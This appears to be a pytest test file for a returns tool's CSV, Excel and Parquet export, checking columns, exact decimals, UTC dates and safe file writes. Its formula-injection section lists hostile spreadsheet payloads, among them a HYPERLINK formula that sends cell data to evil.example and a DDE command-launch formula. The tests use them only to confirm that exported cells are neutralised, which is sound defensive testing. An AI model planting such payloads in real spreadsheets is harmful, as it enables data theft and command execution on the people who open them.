"""Export: exactly the filtered rows, the grid's columns and names, ISO 8601 UTC, display words; an Excel file
an accountant can use; no formula from the data ever runs in a spreadsheet; the user's files are safe."""

from __future__ import annotations

import csv
import errno
import re
import stat
import zipfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from returns_core import cli, domain
from returns_core.filters import FilterError, ReturnFilters
from returns_core.sample_data import EXAMPLE_SHOP as SHOP
from returns_core.sample_data import EXAMPLE_TIME as T0
from returns_core.sample_data import example_return as make_return
from returns_core.spreadsheet import safe_cell, safe_cell_sql
from returns_core.store.db import StoreError, utcnow
from returns_core.store.return_writes import upsert_page
from returns_core.store.returns import count_returns, export_returns

HEADER = [name for name, _ in domain.GRID_COLUMNS]
TIMES = ("Created At", "Updated At", "Due By")
STATUSES = ["RETURN_OR_REFUND_REQUEST_PENDING", "AWAITING_BUYER_SHIP", "RETURN_OR_REFUND_REQUEST_SUCCESS",
            "RETURN_OR_REFUND_REQUEST_COMPLETE", "REFUND_OR_RETURN_REQUEST_REJECT", "PARTNER_REVIEW_PENDING"]
TYPES = ["REFUND", "RETURN_AND_REFUND", "REPLACEMENT"]


@pytest.fixture
def filled(db):
    objs = [make_return(f"40{i:04d}", STATUSES[i % len(STATUSES)], T0 + i, return_type=TYPES[i % 3],
                        refund_amount={"currency": "USD", "refund_total": f"{i}.05"}) for i in range(60)]
    upsert_page(db, SHOP, objs[:30], synced_at=utcnow())
    upsert_page(db, "7000000002", objs[30:], synced_at=utcnow())
    return db


def read_csv(path) -> list[dict]:
    with open(path, newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_has_the_grid_header_and_readable_values(filled, tmp_path):
    out = tmp_path / "all.csv"
    assert export_returns(filled, ReturnFilters(), out) == 60
    with open(out, newline="") as fh:
        assert next(csv.reader(fh)) == HEADER
    by_id = {r["Marketplace Return ID"]: r for r in read_csv(out)}
    one = by_id["400007"]
    assert one["Type"] == "Return & Refund" and one["Status"] == "Pending"
    assert one["Marketplace Status"] == "AWAITING_BUYER_SHIP"
    assert one["Account ID"] == SHOP and one["Reason"] == "Wrong product"
    assert one["Updated At"] == "2025-10-09T08:53:27Z"
    assert one["Created At"] == "2025-10-09T07:53:20Z"
    assert one["Refund Total"] == "7.05" and one["Currency"] == "USD"
    unmapped = by_id["400005"]
    assert unmapped["Marketplace Status"] == "PARTNER_REVIEW_PENDING" and unmapped["Status"] == ""
    assert unmapped["Unmapped Status"] == "true"


def test_filtered_export_has_exactly_the_filtered_count(filled, tmp_path):
    filters = ReturnFilters(shop_ids=(SHOP,), types=("Refund",))
    out = tmp_path / "some.csv"
    n = export_returns(filled, filters, out)
    assert n == count_returns(filled, filters) == 10
    exported = read_csv(out)
    assert len(exported) == 10
    assert {r["Type"] for r in exported} == {"Refund"} and {r["Account ID"] for r in exported} == {SHOP}


def test_xlsx_and_parquet_match_the_csv(filled, tmp_path):
    filters = ReturnFilters(statuses=("Accepted", "Refund"))
    export_returns(filled, filters, tmp_path / "x.csv")
    expected = read_csv(tmp_path / "x.csv")
    export_returns(filled, filters, tmp_path / "x.xlsx")
    export_returns(filled, filters, tmp_path / "x.parquet")

    sheet = load_workbook(tmp_path / "x.xlsx", read_only=True).active
    xlsx_rows = list(sheet.iter_rows(values_only=True))
    assert list(xlsx_rows[0]) == [f"{n} (UTC)" if n in TIMES else n for n in HEADER]
    assert len(xlsx_rows) - 1 == len(expected) == 20
    assert [r[0] for r in xlsx_rows[1:]] == [r["Marketplace Return ID"] for r in expected]
    assert [r[HEADER.index("Updated At")] for r in xlsx_rows[1:]] == [iso(r["Updated At"]) for r in expected]
    assert [r[HEADER.index("Refund Total")] for r in xlsx_rows[1:]] == [float(r["Refund Total"]) for r in expected]

    frame = pd.read_parquet(tmp_path / "x.parquet")
    assert list(frame.columns) == HEADER and len(frame) == 20
    assert list(frame["Marketplace Return ID"]) == [r["Marketplace Return ID"] for r in expected]
    assert list(frame["Updated At"]) == [r["Updated At"] for r in expected]
    assert list(frame["Refund Total"]) == [Decimal(r["Refund Total"]) for r in expected]
    assert set(frame["Status"]) == {"Accepted", "Refund"}


def iso(text: str) -> datetime:
    """An export's ISO 8601 UTC text as the naive UTC datetime Excel holds."""
    return datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ")


# --- an Excel file an accountant can use (issue 10, Build 7) ----------------------------------------


@pytest.fixture
def money(db):
    """Amounts a float would not keep exactly, and one with more than two decimals."""
    totals = ["96.40", "0.10", "1234567.89", "12.3456", "0.07"]
    objs = [make_return(f"50{i:04d}", "RETURN_OR_REFUND_REQUEST_PENDING", T0 + i,
                        refund_amount={"currency": "USD" if i % 2 else "EUR", "refund_total": total})
            for i, total in enumerate(totals)]
    upsert_page(db, SHOP, objs, synced_at=utcnow())
    return db, {f"50{i:04d}": total for i, total in enumerate(totals)}


def test_excel_has_numeric_money_real_utc_datetimes_a_frozen_header_and_a_filter(money, tmp_path):
    db, totals = money
    out = tmp_path / "books.xlsx"
    assert export_returns(db, ReturnFilters(), out) == 5
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header[HEADER.index("Created At")] == "Created At (UTC)" and header[HEADER.index("Due By")] == "Due By (UTC)"
    assert sheet.freeze_panes == "A2"  # the header stays on screen while scrolling
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(HEADER))}6"  # every row, every column
    col = {name: i for i, name in enumerate(header)}
    for row in sheet.iter_rows(min_row=2):
        return_id = row[0].value
        amount = row[col["Refund Total"]]
        assert amount.data_type == "n" and amount.number_format == "#,##0.00##"
        assert Decimal(str(amount.value)) == Decimal(totals[return_id])
        assert row[col["Currency"]].value in ("USD", "EUR")
        created = row[col["Created At (UTC)"]]
        assert created.is_date and isinstance(created.value, datetime)
        assert created.value == iso(read_returns_csv(db, tmp_path)[return_id]["Created At"])
    # the exact decimal is what the file holds (no float rounding on the way)
    with zipfile.ZipFile(out) as xlsx:
        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    values = set(re.findall(r"<v>([^<]*)</v>", sheet_xml))
    assert {str(Decimal(t).quantize(Decimal("0.0001"))) for t in totals.values()} <= values


def read_returns_csv(db, tmp_path) -> dict[str, dict]:
    export_returns(db, ReturnFilters(), tmp_path / "same.csv")
    return {r["Marketplace Return ID"]: r for r in read_csv(tmp_path / "same.csv")}


def test_csv_and_parquet_keep_exact_decimals(money, tmp_path):
    db, totals = money
    by_id = read_returns_csv(db, tmp_path)
    assert {i: r["Refund Total"] for i, r in by_id.items()} == totals  # as TikTok sent them, two decimals or more
    export_returns(db, ReturnFilters(), tmp_path / "x.parquet")
    frame = pd.read_parquet(tmp_path / "x.parquet")
    assert all(isinstance(v, Decimal) for v in frame["Refund Total"])
    assert dict(zip(frame["Marketplace Return ID"], frame["Refund Total"], strict=True)) == {
        i: Decimal(t) for i, t in totals.items()}


# --- formula injection (issue 15, item 9) ------------------------------------------------------

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
           "\t=1+2", "\r=1+2", "Wrong\x00 size", "\x00=1+2", "fine text"]


@pytest.fixture
def hostile(db):
    objs = [make_return(f"60{i:04d}", "RETURN_OR_REFUND_REQUEST_PENDING", T0 + i, return_reason_text=text,
                        refund_amount={"currency": "USD", "refund_total": "-5.00" if i == 0 else "5.00"})
            for i, text in enumerate(HOSTILE)]
    upsert_page(db, SHOP, objs, synced_at=utcnow())
    return db


def neutral(text: str) -> str:
    """What a spreadsheet cell must hold for this text: no control characters, no formula start."""
    text = text.replace("\x00", "")
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def test_csv_and_excel_never_start_a_cell_with_a_formula_and_parquet_keeps_the_raw_text(hostile, tmp_path):
    expected = {f"60{i:04d}": neutral(text) for i, text in enumerate(HOSTILE)}
    assert expected["600000"].startswith("'=HYPERLINK(") and expected["600007"] == "Wrong size"

    export_returns(hostile, ReturnFilters(), tmp_path / "x.csv")
    rows = read_csv(tmp_path / "x.csv")
    assert {r["Marketplace Return ID"]: r["Reason"] for r in rows} == expected
    assert "\x00" not in (tmp_path / "x.csv").read_text()
    # money is a number, never prefixed, even when negative
    assert {r["Refund Total"] for r in rows} == {"-5.00", "5.00"}

    export_returns(hostile, ReturnFilters(), tmp_path / "x.xlsx")
    sheet = load_workbook(tmp_path / "x.xlsx").active
    reason = HEADER.index("Reason")
    cells = {row[0].value: row[reason] for row in sheet.iter_rows(min_row=2)}
    # (XML turns a carriage return into a line feed: still text behind the quote)
    assert {i: c.value for i, c in cells.items()} == {i: text.replace("\r", "\n") for i, text in expected.items()}
    assert {c.data_type for c in cells.values()} == {"s"}  # text, not one formula
    assert {row[HEADER.index("Refund Total")].value for row in sheet.iter_rows(min_row=2)} == {-5, 5}

    export_returns(hostile, ReturnFilters(), tmp_path / "x.parquet")
    frame = pd.read_parquet(tmp_path / "x.parquet")
    assert dict(zip(frame["Marketplace Return ID"], frame["Reason"], strict=True)) == {
        f"60{i:04d}": text for i, text in enumerate(HOSTILE)}


def test_the_sql_twin_neutralises_exactly_like_the_python_rule(db):
    cases = [*HOSTILE, "", "'", "plain", "a=b", " =x", "\x1b[31mred", "line\nbreak", None]
    with db.reader() as con:
        got = [con.execute(f"SELECT {safe_cell_sql('v')} FROM (SELECT ?::VARCHAR AS v)", [c]).fetchone()[0]
               for c in cases]
    assert got == [safe_cell(c) for c in cases]
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00") and safe_cell(-5) == -5  # numbers stay numbers


def test_the_cli_export_writes_the_same_neutralised_excel(hostile, db_key, folder, monkeypatch, capsys):
    # `export --out` and the app's download buttons both call export_returns
    monkeypatch.setenv("RETURNS_DESK_KEY", db_key)
    out = folder / "books.xlsx"
    assert cli.main(["--db", str(hostile.path), "export", "--out", str(out)]) == 0, capsys.readouterr().err
    sheet = load_workbook(out).active
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{get_column_letter(len(HEADER))}11"
    reasons = {row[0].value: row[HEADER.index("Reason")] for row in sheet.iter_rows(min_row=2)}
    assert reasons["600000"].value == neutral(HOSTILE[0]) and reasons["600000"].data_type == "s"


# --- the target: written whole under a fresh name, nothing else of the user's touched (issue 15, item 8) ----


@pytest.fixture
def folder(tmp_path):
    """The user's folder for exports (the store lives elsewhere)."""
    path = tmp_path / "exports"
    path.mkdir()
    return path


def test_export_never_touches_a_users_partial_file_and_leaves_no_temporary_file(filled, folder):
    mine = folder / "y.csv.partial"
    mine.write_text("my own notes")
    out = folder / "y.csv"
    assert export_returns(filled, ReturnFilters(), out) == 60
    assert mine.read_text() == "my own notes"
    assert sorted(p.name for p in folder.iterdir()) == ["y.csv", "y.csv.partial"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # customer data: the owner's only
    assert len(read_csv(out)) == 60


def test_a_failed_export_keeps_the_previous_file_and_says_why_in_one_line(filled, folder, monkeypatch):
    out = folder / "y.xlsx"
    out.write_bytes(b"last month's export")

    save = Workbook.save

    def disk_full(self, filename):  # the disk fills up as the workbook's last bytes are written
        save(self, filename)
        # meanwhile, the half-written file sits in a private folder of its own beside the target
        assert Path(filename).parent.parent == folder and stat.S_IMODE(Path(filename).parent.stat().st_mode) == 0o700
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Workbook, "save", disk_full)
    with pytest.raises(StoreError) as failed:
        export_returns(filled, ReturnFilters(), out)
    assert str(failed.value) == (f"Cannot write the export to {out}: No space left on device. Nothing was written; "
                                 "check the folder's space and permissions, or choose another folder.")
    assert out.read_bytes() == b"last month's export"
    assert [p.name for p in folder.iterdir()] == ["y.xlsx"]


def test_an_existing_export_is_replaced_whole(filled, tmp_path):
    out = tmp_path / "y.csv"
    out.write_text("old")
    export_returns(filled, ReturnFilters(shop_ids=(SHOP,)), out)
    assert len(read_csv(out)) == 30


def test_a_folder_or_a_link_as_target_is_refused_and_left_alone(filled, folder):
    (folder / "y.csv").mkdir()
    with pytest.raises(FilterError, match=r"it is a folder, not a file"):
        export_returns(filled, ReturnFilters(), folder / "y.csv")
    elsewhere = folder / "elsewhere.csv"
    elsewhere.write_text("keep")
    link = folder / "link.csv"
    link.symlink_to(elsewhere)
    with pytest.raises(FilterError, match=r"it is a link, not a file"):
        export_returns(filled, ReturnFilters(), link)
    assert elsewhere.read_text() == "keep" and link.is_symlink()
    assert sorted(p.name for p in folder.iterdir()) == ["elsewhere.csv", "link.csv", "y.csv"]


def test_bad_export_target_is_one_clear_error(filled, tmp_path):
    with pytest.raises(FilterError, match="must end in .csv, .xlsx or .parquet"):
        export_returns(filled, ReturnFilters(), tmp_path / "x.json")
    with pytest.raises(FilterError, match="does not exist"):
        export_returns(filled, ReturnFilters(), tmp_path / "missing" / "x.csv")
